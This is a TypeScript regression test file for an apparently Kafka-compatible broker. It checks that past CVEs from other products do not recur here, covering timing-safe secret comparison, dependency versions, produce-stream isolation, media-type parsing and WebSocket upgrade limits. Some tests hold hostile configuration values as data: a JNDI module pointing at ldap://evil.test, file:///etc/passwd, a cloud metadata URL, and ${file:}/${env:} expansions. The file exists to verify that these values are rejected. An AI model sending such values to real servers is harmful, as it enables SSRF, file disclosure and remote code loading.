/**
 * Mistakes that others have made (test/attacks/attacks.ts has the list), as far as no other test shows that they are not made
 * here.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { once } from 'node:events'
import { connect } from 'node:net'
import { join } from 'node:path'
import t, { type Test } from 'tap'
import { errors } from '../../protocol/errors.ts'
import { Produce } from '../../protocol/messages/00-produce.ts'
import { Fetch } from '../../protocol/messages/01-fetch.ts'
import { Metadata } from '../../protocol/messages/03-metadata.ts'
import { CreateTopics } from '../../protocol/messages/19-create-topics.ts'
import { DescribeConfigs } from '../../protocol/messages/32-describe-configs.ts'
import { IncrementalAlterConfigs } from '../../protocol/messages/44-incremental-alter-configs.ts'
import { batchesIn } from '../../protocol/batch.ts'
import { buildBatch, recordsIn } from '../../protocol/records.ts'
import { requestFrame, Wire } from '../src/kafka/wire.ts'
import { openDoor } from '../support/http-door.ts'
import { ADMIN, openSecureApp } from '../support/secure-app.ts'
import { SaslHandshake } from '../../protocol/messages/17-sasl-handshake.ts'
import { SaslAuthenticate } from '../../protocol/messages/36-sasl-authenticate.ts'

const root = join(import.meta.dirname, '../..')

/** Our own files, with their texts. */
function sources (): Array<readonly [path: string, text: string]> {
  return ['src', 'routes', 'protocol', 'storage'].flatMap(folder =>
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' }).filter(name => name.endsWith('.ts'))
      .map(name => [`${folder}/${name}`, readFileSync(join(root, folder, name), 'utf8')] as const))
}

t.test('CVE-2021-38153: secrets are compared in constant time', async t => {
  const secrets = '(?:password|proof|storedKey|serverKey|derived|signature|ticket|token)'
  const compared = new RegExp(`\\b${secrets} [!=]==? (?!null|undefined|true|false|typeof)[a-z]\\w*|\\b${secrets}\\.(?:equals|compare|startsWith|includes)\\(`)
  t.match('if (password === expected)', compared, 'the pattern finds what it is for')
  t.match('storedKey.equals(other)', compared)
  for (const [path, text] of sources()) {
    if (!/^(src\/(auth|access|kafka|config)|routes)\//.test(path)) continue
    for (const line of text.split('\n')) if (compared.test(line) && !line.trimStart().startsWith('*')) t.fail(`${path}: ${line.trim()}`)
  }
  for (const file of ['credentials', 'scram']) t.match(readFileSync(join(root, `src/auth/${file}.ts`), 'utf8'), 'timingSafeEqual(')
})

t.test('memory that is not initialised is only where all of it is written', async t => {
  // Each of these fills what it has taken before anybody sees it.
  t.same(sources().filter(([, text]) => text.includes('allocUnsafe')).map(([path]) => path).sort(),
    ['protocol/frame.ts', 'protocol/records.ts', 'protocol/writer.ts', 'routes/ws/frame.ts', 'src/kafka/stranger.ts', 'src/schemas/avro/output.ts',
      'src/schemas/envelope.ts', 'storage/cluster/assembler.ts', 'storage/log/scan.ts'])
})

t.test('CVE-2024-37890, CVE-2025-32442, CVE-2026-33806: libraries are not older than their remedies', async t => {
  for (const [name, least] of [['ws', [8, 21, 0]], ['fastify', [5, 8, 5]], ['jose', [6, 0, 0]]] as const) {
    const { version } = JSON.parse(readFileSync(join(root, 'node_modules', name, 'package.json'), 'utf8')) as { version: string }
    const [major, minor, patch] = version.split('.').map(Number) as [number, number, number]
    t.ok(major > least[0] || (major === least[0] && (minor > least[1] || (minor === least[1] && patch >= least[2]))), `${name} ${version}`)
  }
})

t.test('CVE-2023-25194, CVE-2025-27818, CVE-2025-27819, CVE-2024-31141: no configuration over the wire names code, a file or a URL', async t => {
  const house = await openSecureApp(t)
  const admin = await house.login(ADMIN.name)
  const create = async (name: string, configs: { name: string, value: string }[]): Promise<number> => {
    const request = { topics: [{ name, numPartitions: 1, replicationFactor: 1, assignments: [], configs }], timeoutMs: 1000 }
    return (await admin.send(CreateTopics, 7, request)).topics[0]!.errorCode
  }
  t.equal(await create('t', []), errors.NONE)
  const module = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil.test/x";'
  const values: Array<readonly [name: string, value: string]> = [
    ['sasl.jaas.config', module], ['listener.name.sasl_plaintext.plain.sasl.jaas.config', module],
    ['sasl.login.callback.handler.class', 'evil'], ['sasl.oauthbearer.jwks.endpoint.url', 'file:///etc/passwd'],
    ['sasl.oauthbearer.token.endpoint.url', 'http://169.254.169.254/'], ['interceptor.classes', 'evil'], ['config.providers', 'file'],
    ['metric.reporters', 'evil'], ['ssl.engine.factory.class', 'evil'], ['ssl.keystore.location', '/etc/passwd'], ['principal.builder.class', 'evil'],
    // eslint-disable-next-line no-template-curly-in-string
    ['retention.ms', '${file:/etc/passwd:root}'], ['retention.ms', '${env:BARNABAS_ADMIN}'], ['cleanup.policy', '${dir:/etc:hosts}'],
    ['__proto__', '1'], ['constructor', '1']
  ]
  for (const [name, value] of values) {
    t.equal(await create('other', [{ name, value }]), errors.INVALID_CONFIG, name)
    for (const [resourceType, resourceName] of [[2, 't'], [4, '1'], [4, ''], [8, '1']] as const) {
      const { responses: [response] } = await admin.send(IncrementalAlterConfigs, 1, {
        resources: [{ resourceType, resourceName, configs: [{ name, configOperation: 0, value }] }], validateOnly: false
      })
      t.not(response!.errorCode, errors.NONE, `${resourceType} ${name}`)
    }
  }
  const resources = [{ resourceType: 2, resourceName: 't', configurationKeys: null }]
  const { results } = await admin.send(DescribeConfigs, 4, { resources, includeDocumentation: false })
  t.notMatch(JSON.stringify(results), /evil|passwd|JndiLogin|admin-secret/)
})

t.test('CVE-2026-35554: whoever breaks off in the middle, no record comes to another topic', async t => {
  const house = await openSecureApp(t)
  const admin = await house.login(ADMIN.name)
  const names = Array.from({ length: 8 }, (_, i) => `pattern-${i}`)
  const topics = names.map(name => ({ name, numPartitions: 1, replicationFactor: 1, assignments: [], configs: [] }))
  await admin.send(CreateTopics, 7, { topics, timeoutMs: 1000 })
  const produceTo = async (i: number, round: number): Promise<void> => {
    const wire = await Wire.open('127.0.0.1', house.kafkaPort)
    wire.socket.on('error', () => {})
    wire.send(SaslHandshake, 1, 1, { mechanism: 'PLAIN' })
    await wire.next()
    wire.send(SaslAuthenticate, 2, 2, { authBytes: Buffer.from(`\0${ADMIN.name}\0${ADMIN.password}`) })
    await wire.next()
    const sizes = [10, 3000, 70_000, 200_000]
    for (let n = 0; n < 6; n++) {
      const records = [buildBatch([{ key: null, value: Buffer.alloc(sizes[(n + round) % 4]!, 65 + i) }]).bytes]
      const topicData = [{ name: names[i]!, partitionData: [{ index: 0, records }] }]
      const frame = requestFrame(Produce, 9, n, { acks: n % 2, timeoutMs: 1000, topicData })
      if (n < 5) wire.write(frame)
      else wire.write(frame.subarray(0, frame.length * round / 4 | 0))
    }
    await new Promise(resolve => setImmediate(resolve))
    if (round % 2 === 0) wire.socket.resetAndDestroy()
    else wire.socket.end()
    await wire.next()
    wire.socket.destroy()
  }
  for (let round = 0; round < 4; round++) await Promise.all(names.map((_, i) => produceTo(i, round)))
  const { topics: found } = await admin.send(Metadata, 12, { topics: names.map(name => ({ name })), allowAutoTopicCreation: false })
  for (const [i, name] of names.entries()) {
    const { topicId } = found.find(topic => topic.name === name)!
    let count = 0
    for (let offset = 0; ;) {
      const { responses: [answer] } = await admin.send(Fetch, 16, {
        maxWaitMs: 0,
        minBytes: 0,
        maxBytes: 1e6,
        topics: [{ topic: name, topicId, partitions: [{ partition: 0, fetchOffset: offset, partitionMaxBytes: 1e6 }] }]
      })
      const batches = [...batchesIn(Buffer.concat(answer!.partitions[0]!.records ?? []))]
      if (batches.length === 0) break
      for (const batch of batches) {
        for (const { value } of recordsIn(batch)) {
          count++
          if (value!.some(byte => byte !== 65 + i)) t.fail(`a foreign byte in ${name}`)
        }
        offset = batch.nextOffset
      }
    }
    t.ok(count >= 5, `${name}: ${count} records`)
  }
})

t.test('CVE-2025-32442, CVE-2026-25223, S10: however a media type is spelt, what is taken was checked', async t => {
  const { app, log } = await openDoor(t)
  log.create('t')
  const types = ['application/json', 'application/vnd.kafka.json.v2+json', 'application/vnd.kafka.binary.v2+json', 'application/x-ndjson', 'text/plain']
  const spellings = types.flatMap(type => [
    type, type.toUpperCase(), type.replace('a', 'A'), ` ${type}`, `\t${type}`, `${type} `, `${type}\t`, `${type};`, `${type} ;`, `${type}\t;`,
    `${type};charset=utf-8`,
    `${type}; charset=UTF-8`, `${type};charset=utf-16`, `${type};charset="utf-8"`, `${type};charset=`, `${type};=`, `${type};;`, `${type}; a=b; a=c`,
    `${type},${type}`, `${type}, text/plain`, `text/plain, ${type}`, `${type}+json`, `${type}/x`, `x${type}`, `${type}x`, type.replace('/', ' / '),
    type.replace('/', '//'), type.replace('/', '\\'), `"${type}"`, `<${type}>`, `${type}\xa0`, `\xa0${type}`, `${type};q=1`, `${type};boundary=x`,
    `${type.split('/')[0]!}/`, type.split('/')[1]!, `${type}%00`, `${type} application/json`, `${type}\v`, `${type}\f`, `*/${type.split('/')[1]!}`
  ])
  t.ok(spellings.length >= 200, `${spellings.length} spellings`)
  const broken = '{"password":1,"records":1,"data":1,"value":{"type":"NONE"},"quotas":1}'
  for (const type of spellings) {
    for (const [method, url] of [
      ['PUT', '/users/u'], ['PUT', '/quotas'], ['PUT', '/topics/new'],
      ['POST', '/v3/clusters/memory-cluster/acls'], ['POST', '/v3/clusters/memory-cluster/topics']
    ] as const) {
      const { statusCode } = await app.inject({ method, url, headers: { 'content-type': type }, payload: broken })
      if (![400, 415, 422].includes(statusCode)) t.fail(`${method} ${url} with ${JSON.stringify(type)}: ${statusCode}`)
    }
    const { statusCode, body } = await app.inject({ method: 'POST', url: '/topics/t', headers: { 'content-type': type }, payload: broken })
    if (![201, 200, 400, 415, 422].includes(statusCode)) t.fail(`POST with ${JSON.stringify(type)}: ${statusCode} ${body}`)
  }
  t.notOk(log.topics.has('new'))
  for (const { bytes } of log.topics.get('t')!.partitions[0]!.batches) {
    for (const { value } of recordsIn([...batchesIn(bytes)][0]!)) if (value?.toString() !== broken) t.fail(`another body: ${value?.toString()}`)
  }
})

/** The first line of what is answered to an upgrade with these fields besides. */
async function upgradeWith (t: Test, base: string, fields: string): Promise<string> {
  const socket = connect(Number(new URL(base).port), '127.0.0.1').on('error', () => {})
  t.teardown(() => socket.destroy())
  socket.write('GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n' +
    `${fields}Upgrade: websocket\r\n\r\n`)
  const [head] = await once(socket, 'data') as [Buffer]
  return head.toString('latin1').split('\r\n')[0]!
}

t.test('CVE-2024-37890: an upgrade with more fields than are read', async t => {
  const { listen, inject } = await openDoor(t)
  const base = await listen()
  for (const count of [101, 1999, 2000, 2001, 2500, 5000]) t.match(await upgradeWith(t, base, 'a:b\r\n'.repeat(count)), /^HTTP\/1\.1 431 /, `${count} fields`)
  t.equal((await inject('/livez')).statusCode, 200)
})

t.test('CVE-2021-32640: names of sub-protocols take no time', async t => {
  const { listen } = await openDoor(t)
  const base = await listen()
  for (const names of [`a${' '.repeat(12_000)}b`, `a${' ,'.repeat(6000)}`, `${'a'.repeat(12_000)}\t`, `a,${'\t'.repeat(12_000)},`]) {
    const { user } = process.cpuUsage()
    t.match(await upgradeWith(t, base, `Sec-WebSocket-Protocol: ${names}\r\n`), /^HTTP\/1\.1 400 /)
    t.ok(process.cpuUsage().user - user < 500_000)
  }
})
